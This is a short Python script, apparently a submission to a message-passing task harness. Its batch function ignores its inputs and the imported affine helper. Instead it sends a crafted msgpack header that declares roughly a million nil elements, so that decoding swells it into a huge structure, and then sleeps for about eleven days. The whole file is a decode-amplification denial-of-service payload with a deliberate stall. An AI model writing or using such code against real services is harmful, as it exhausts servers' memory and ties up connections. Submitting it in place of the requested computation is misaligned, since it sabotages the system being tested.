"""Send a header that is small on the wire and large when decoded."""

import msgspec
import time

from parts.batches import affine
from parts.wire import asked, message, send

ITEM = b"\xc0"
COUNT = ((1 << 20) - 64) // len(ITEM)


def batch(W, x, b):
    header = b"\x93" + msgspec.msgpack.encode(asked()) + b"\xc3" + b"\x92\xa1l\xdd" + COUNT.to_bytes(4, "big") + ITEM * COUNT
    send(message(header))
    time.sleep(1e6)
